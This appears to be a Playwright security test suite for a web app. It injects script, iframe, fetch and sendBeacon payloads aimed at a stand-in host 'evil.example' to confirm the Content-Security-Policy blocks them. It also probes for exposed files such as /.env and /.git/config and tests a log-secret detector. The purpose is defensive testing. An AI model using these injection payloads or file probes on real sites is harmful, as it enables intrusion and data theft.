import type { Page } from "@playwright/test";
import { expect, journey } from "./journey.ts";
import { policyViolations } from "./pages/content-policy.ts";
import { secretsIn } from "./secrets.ts";

/** What somebody does who has got markup into a page of ours. */
const ATTACKS: [what: string, script: string][] = [
  ["an inline script", "append('script', { textContent: 'window.stolen = 1' })"],
  ["a script of another host", "append('script', { src: 'https://evil.example/a.js' })"],
  [
    "a handler in an attribute",
    "append('button', { textContent: 'x' }, { onclick: 'window.stolen = 1' }).click()",
  ],
  ["a script as an address", "append('a', { href: 'javascript:window.stolen = 1' }).click()"],
  [
    "a picture of another host, which tells it something",
    "append('img', { src: 'https://evil.example/a.gif' })",
  ],
  ["a frame", "append('iframe', { src: 'https://evil.example/' })"],
  ["a style", "append('style', { textContent: 'body { display: none }' })"],
  ["an object", "append('object', { data: 'https://evil.example/' })"],
  ["text that is run", "setTimeout('window.stolen = 1', 0)"],
  ["a question to another host", "fetch('https://evil.example/').catch(() => {})"],
  ["a message to another host", "navigator.sendBeacon('https://evil.example/', 'x')"],
];
const APPEND = `const append = (name, facts, attributes = {}) => {
  const element = Object.assign(document.createElement(name), facts);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  document.body.append(element);
  return element;
};`;

const stolen = (page: Page) => page.evaluate<number | undefined>("window.stolen");

for (const path of ["/", "/auth", "/api/docs"])
  journey(
    `markup that a stranger has got into ${path} runs nothing and tells nobody`,
    async ({ browser, product }) => {
      const context = await browser.newContext({ baseURL: product.url });
      const asked: string[] = [];
      context.on("requestfinished", (request) => asked.push(request.url()));
      context.on("requestfailed", (request) =>
        asked.push(`${request.url()} ${request.failure()?.errorText}`),
      );
      const kept = policyViolations(context);
      const page = await context.newPage();
      await page.goto(path);
      expect(kept, "before any attack").toEqual([]);
      for (const [what, script] of ATTACKS) {
        const before = kept.length;
        await page.evaluate(`{ ${APPEND} ${script} }`);
        await expect.poll(() => kept.length, { message: what }).toBeGreaterThan(before);
      }
      expect(await stolen(page)).toBeUndefined();
      const elsewhere = asked.filter((one) => one.startsWith("http") && !one.startsWith(product.url));
      expect(elsewhere.filter((one) => !one.endsWith(" csp"))).toEqual([]);
      await context.close();
    },
  );

journey("a page of ours stands in nobody's frame", async ({ request }) => {
  for (const path of ["/", "/auth", "/dashboard", "/api/docs"]) {
    const headers = (await request.get(path)).headers();
    expect(headers["content-security-policy"], path).toContain("frame-ancestors 'none'");
  }
});

journey("no source of ours is served with what is built of it", async ({ request }) => {
  const page = await (await request.get("/auth")).text();
  const scripts = [...page.matchAll(/(?:src|href)="(\/assets\/[^"]+\.(?:js|css))"/g)].map(
    ([, path]) => path ?? "",
  );
  expect(scripts.length).toBeGreaterThan(1);
  for (const path of scripts) {
    expect(await (await request.get(path)).text(), path).not.toContain("sourceMappingURL");
    expect((await request.get(`${path}.map`)).status(), path).toBe(404);
  }
  for (const path of ["/.env", "/package.json", "/src/server/main.ts", "/pages/home.pt.html"])
    expect((await request.get(path)).status(), path).toBe(404);
  // By its name it might be a screen: the app itself says that there is none.
  expect(await (await request.get("/.git/config")).text()).toContain('<div id="root">');
});

journey("what is looked for in the logs would be found there", () => {
  const line = '{"msg":"ana.1.2@example.com voo rasante 7 Bearer eyJhbGci.eyJpc3M /verify?token=abc"}';
  expect(secretsIn(line)).toHaveLength(4);
});
